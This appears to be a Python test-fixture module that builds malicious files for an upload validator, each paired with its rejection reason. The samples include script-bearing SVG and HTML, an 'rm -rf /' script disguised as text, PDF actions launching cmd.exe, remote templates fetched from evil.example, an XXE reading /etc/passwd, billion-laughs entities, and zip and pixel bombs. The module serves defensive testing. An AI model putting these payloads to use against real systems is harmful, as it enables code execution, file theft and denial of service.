"""Files that mean harm, each made when it is needed: name as it was brought, bytes, and why it is refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from .making import changed, pdf, picture, relations, sheet, slides, unzipped, word, zipped

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = "word/_rels/document.xml.rels"
LAUGHS = "".join(f'<!ENTITY {chr(98 + each)} "{f"&{chr(97 + each)};" * 10}">' for each in range(9))


def with_body(body: str, head: str = "") -> bytes:
    return changed(
        word(), {"word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"}
    )


def field(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}'


def with_relation(kind: str, target: str) -> bytes:
    """Word that refers to something outside itself."""
    sound = unzipped(word())[RELATIONS].decode()
    row = relations((kind, target), mode=' TargetMode="External"').partition(">")[2].partition("</Rel")[0]
    return changed(
        word(),
        {RELATIONS: sound.replace("</Relationships>", row.replace("rId1", "rId99") + "</Relationships>")},
    )


def with_type(content: bytes, old: bytes, new: bytes) -> bytes:
    return changed(
        content, {"[Content_Types].xml": unzipped(content)["[Content_Types].xml"].replace(old, new)}
    )


def pdf_with(change: Callable[[PdfWriter], None], *, password: str = "") -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    change(writer)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def opening(kind: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
        action[NameObject("/F" if kind == "Launch" else "/JS")] = TextStringObject("cmd.exe")
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def script_for_all_pages(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    listed = ArrayObject([TextStringObject("a"), writer._add_object(action)])
    scripts = DictionaryObject({NameObject("/Names"): listed})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def packed_action() -> bytes:
    """An action that starts a program, in a stream of objects, its name written in numbers."""
    packed = zlib.compress(b"9 0 <</S /#4caunch /F (cmd.exe)>>")
    stream = b"8 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(
        packed
    )
    return pdf().replace(b"%%EOF", stream + packed + b"\nendstream\nendobj\n%%EOF", 1)


def overlapping(names: int = 200) -> bytes:
    """Entries that all share the same packed bytes, as in a bomb of Fifield's."""
    body = zlib.compress(bytes(1_000_000), 9)[2:-4]
    checksum = zlib.crc32(bytes(1_000_000))
    local = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, checksum, len(body), 1_000_000, 1, 0)
        + b"a"
        + body
    )
    central = b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            33,
            checksum,
            len(body),
            1_000_000,
            1,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"a"
        for _each in range(names)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, names, names, len(central), len(local), 0)
    return local + central + end


def claiming_less(content: bytes) -> bytes:
    """The table of contents says that each part is small."""
    out = bytearray(content)
    place = 0
    while (place := out.find(b"PK\x01\x02", place)) >= 0:
        struct.pack_into("<I", out, place + 24, 10)
        place += 4
    return bytes(out)


def in_utf_16(body: str) -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><w:document {W}>{body}</w:document>'
    return changed(word(), {"word/document.xml": text.encode("utf-16")})


def png_of(width: int, height: int, rows: int = 0) -> bytes:
    """A picture that says how large it is; only some of its rows are there."""

    def chunk(kind: bytes, said: bytes) -> bytes:
        return struct.pack(">I", len(said)) + kind + said + struct.pack(">I", zlib.crc32(kind + said))

    squeezer = zlib.compressobj(9)
    packed = b"".join(squeezer.compress(bytes(1 + width)) for _row in range(rows)) + squeezer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    content = picture("JPEG")
    place = content.index(b"\xff\xc0")
    return content[: place + 5] + struct.pack(">HH", height, width) + content[place + 9 :]


def doubled() -> bytes:
    """Two tables of contents for two programs: one reads the first part, the other the last."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in unzipped(word()).items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


def turned(content: bytes) -> bytes:
    """The checksum of one part is wrong."""
    place = content.rindex(b"PK\x01\x02") + 16
    return content[:place] + bytes([content[place] ^ 1]) + content[place + 1 :]


def endless_objects() -> bytes:
    """Streams of objects that unpack to hundreds of megabytes."""
    packed = zlib.compress(bytes(20_000_000), 9)
    stream = b"8 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(
        packed
    )
    return pdf().replace(b"%%EOF", (stream + packed + b"\nendstream\nendobj\n") * 20 + b"%%EOF", 1)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
JAR = zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # Contents other than the name.
    "a page called text": ("a.txt", lambda: b"  \n" + SCRIPT, "not_what_it_says"),
    "a page called PDF": ("a.pdf", lambda: SCRIPT, "not_what_it_says"),
    "a drawing with a script called picture": ("a.png", lambda: SVG, "not_what_it_says"),
    "a drawing with a script called text": ("a.md", lambda: b"\xef\xbb\xbf" + SVG, "not_what_it_says"),
    "a page called text in UTF-16": ("a.txt", lambda: SCRIPT.decode().encode("utf-16"), "not_what_it_says"),
    "a shell script called text": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "not_what_it_says"),
    "a program called text": ("a.txt", lambda: b"MZ\x90\x00\x03\x00\x00\x00", "not_text"),
    "a program called Word": ("a.docx", lambda: b"MZ\x90\x00" * 100, "not_what_it_says"),
    "a PDF called picture": ("a.jpg", pdf, "not_what_it_says"),
    "a PNG called JPEG": ("a.jpg", lambda: picture("PNG"), "not_what_it_says"),
    "a spreadsheet called Word": ("a.docx", sheet, "not_what_it_says"),
    "any zip called Word": ("a.docx", lambda: zipped({"a.txt": "a"}), "not_what_it_says"),
    "a rich text called text": ("a.txt", lambda: b"{\\rtf1\\object\\objdata}", "not_what_it_says"),
    "a zip called old Word": ("a.doc", lambda: JAR, "not_what_it_says"),
    # Two files in one.
    "a PDF that is a zip": ("a.pdf", lambda: pdf() + JAR, "two_in_one"),
    "a PDF with a zip before its end": (
        "a.pdf",
        lambda: pdf() + JAR[:-2] + b"\x09\x00\n%%EOF\n  ",
        "two_in_one",
    ),
    "a PDF with a page behind it": ("a.pdf", lambda: pdf() + SCRIPT, "two_in_one"),
    "a GIF that is a program": ("a.gif", lambda: picture("GIF") + JAR, "two_in_one"),
    "a JPEG that is a program": ("a.jpg", lambda: picture("JPEG") + JAR, "two_in_one"),
    "a PNG that is a program": ("a.png", lambda: picture("PNG") + JAR, "two_in_one"),
    "a Word file behind a PDF": ("a.docx", lambda: pdf() + word(), "not_what_it_says"),
    "a Word file with something behind it": ("a.docx", lambda: word() + b"MZ" * 100, "two_in_one"),
    "a Word file with a PDF in its first part": (
        "a.docx",
        lambda: zipped({"a.txt": b"%PDF-1.4", **unzipped(word())}, zipfile.ZIP_STORED),
        "two_in_one",
    ),
    "two parts of one name": ("a.docx", doubled, "two_in_one"),
    # Macros and what runs.
    "a Word file with macros": ("a.docx", lambda: changed(word(), {"word/vbaProject.bin": b"x"}), "macros"),
    "a workbook with macros": ("a.xlsx", lambda: changed(sheet(), {"xl/vbaProject.bin": b"x"}), "macros"),
    "slides with macros": ("a.pptx", lambda: changed(slides(), {"ppt/vbaProject.bin": b"x"}), "macros"),
    "a workbook with old macros": (
        "a.xlsx",
        lambda: changed(sheet(), {"xl/macrosheets/s.xml": "<a/>"}),
        "macros",
    ),
    "a macro file with another name": (
        "a.docx",
        lambda: with_type(
            word(),
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "macros",
    ),
    "a control": ("a.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    "an old Word file with macros": ("a.doc", lambda: OLE + "_VBA_PROJECT".encode("utf-16-le"), "macros"),
    "a field that starts a program": (
        "a.docx",
        lambda: with_body(f"<w:p>{field('DD', 'EAUTO c:')}</w:p>"),
        "runs",
    ),
    "a cell that starts a program": (
        "a.xlsx",
        lambda: changed(
            sheet(), {"xl/externalLinks/externalLink1.xml": f"<externalLink {S}><ddeLink/></externalLink>"}
        ),
        "runs",
    ),
    "a program in Word": ("a.docx", lambda: changed(word(), {"word/embeddings/a.exe": b"MZ"}), "holds_file"),
    "a packed file in Word": (
        "a.docx",
        lambda: changed(
            word(), {"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}
        ),
        "holds_file",
    ),
    "a page in Word": ("a.docx", lambda: changed(word(), {"word/afchunk.html": SCRIPT}), "holds_file"),
    "a PDF with a script": ("a.pdf", lambda: pdf_with(opening("JavaScript")), "runs"),
    "a PDF with a script for all pages": ("a.pdf", lambda: pdf_with(script_for_all_pages), "runs"),
    "a PDF that starts a program": ("a.pdf", lambda: pdf_with(opening("Launch")), "runs"),
    "a PDF that hides what it starts": ("a.pdf", packed_action, "runs"),
    "a PDF with a program in it": (
        "a.pdf",
        lambda: pdf_with(lambda writer: writer.add_attachment("factuur.exe", b"MZ")),
        "holds_file",
    ),
    # Locked.
    "a locked PDF": ("a.pdf", lambda: pdf_with(lambda writer: None, password="geheim"), "password"),
    "a locked Word file": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    # What fetches.
    "a picture from elsewhere": (
        "a.docx",
        lambda: with_relation("image", "https://evil.example/a.png"),
        "fetches",
    ),
    "a template from elsewhere": (
        "a.docx",
        lambda: with_relation("attachedTemplate", "http://evil.example/a.dotm"),
        "fetches",
    ),
    "a template of another machine": (
        "a.docx",
        lambda: with_relation("attachedTemplate", "\\\\evil\\a.dotm"),
        "fetches",
    ),
    "a frame of another machine": (
        "a.docx",
        lambda: with_relation("frame", "file:////evil/share/a"),
        "fetches",
    ),
    "a picture of a host": ("a.docx", lambda: with_relation("image", "file://evil.example/a"), "fetches"),
    "an object in disguise": (
        "a.docx",
        lambda: with_relation("oleObject", "mhtml:http&#58;//evil.example!x"),
        "fetches",
    ),
    # Declarations.
    "a file of the server in Word": (
        "a.docx",
        lambda: with_body("<w:p>&x;</w:p>", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "declares",
    ),
    "a thousand million laughs": (
        "a.docx",
        lambda: with_body("&j;", f'<!DOCTYPE l [<!ENTITY a "ha">{LAUGHS}]>'),
        "declares",
    ),
    "a declaration in UTF-16": ("a.docx", lambda: in_utf_16("<w:body/>"), "declares"),
    "a declaration in a part of another name": (
        "a.docx",
        lambda: changed(word(), {"word/media/a.bin": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
        "declares",
    ),
    "a declaration in a relation": (
        "a.xlsx",
        lambda: changed(
            sheet(), {"_rels/.rels": "<!DOCTYPE a []>" + relations(("officeDocument", "xl/workbook.xml"))}
        ),
        "declares",
    ),
    # Bombs.
    "a Word file that unpacks a thousand times": (
        "a.docx",
        lambda: changed(word(), {"word/media/a.png": bytes(300_000_000)}),
        "too_much",
    ),
    "a Word file of many short elements": ("a.docx", lambda: with_body("<w:p/>" * 3_000_000), "too_much"),
    "a Word file of endless depth": ("a.docx", lambda: with_body("<w:p>" * 3_000_000), "too_much"),
    "a workbook of empty cells": (
        "a.xlsx",
        lambda: changed(
            sheet(), {"xl/worksheets/sheet1.xml": f"<worksheet {S}>{'<c/>' * 3_000_000}</worksheet>"}
        ),
        "too_much",
    ),
    "a workbook of many parts": (
        "a.xlsx",
        lambda: changed(sheet(), dict.fromkeys(map(str, range(5_000)), "")),
        "too_much",
    ),
    "a workbook of one long text": (
        "a.xlsx",
        lambda: changed(
            sheet(), {"xl/sharedStrings.xml": f"<sst {S}><si><t>{'a' * 40_000_000}</t></si></sst>"}
        ),
        "too_much",
    ),
    "entries that share their bytes": ("a.docx", overlapping, "too_much"),
    "sizes that are not true": ("a.docx", lambda: claiming_less(word()), "too_much"),
    "a PDF whose objects unpack without end": ("a.pdf", endless_objects, "too_much"),
    # Floods.
    "a flood of pixels": ("a.png", lambda: png_of(60_000, 60_000), "too_many_pixels"),
    "a flood of real pixels": ("a.png", lambda: png_of(20_000, 4_000, 4_000), "too_many_pixels"),
    "a thin flood": ("a.png", lambda: png_of(400_000, 10), "too_many_pixels"),
    "a flood in a photo": ("a.jpg", lambda: jpeg_of(65_000, 65_000), "too_many_pixels"),
    "a flood in a GIF": (
        "a.gif",
        lambda: picture("GIF")[:6] + b"\xff\xff\xff\xff" + picture("GIF")[10:],
        "too_many_pixels",
    ),
    # Broken.
    "half a PDF": ("a.pdf", lambda: pdf()[:400], "damaged"),
    "half a Word file": ("a.docx", lambda: word()[:20_000], "damaged"),
    "a Word file with a bit turned": ("a.docx", lambda: turned(word()), "damaged_part"),
    "nothing but spaces": ("a.txt", lambda: b" \n\t" * 100, "empty"),
}
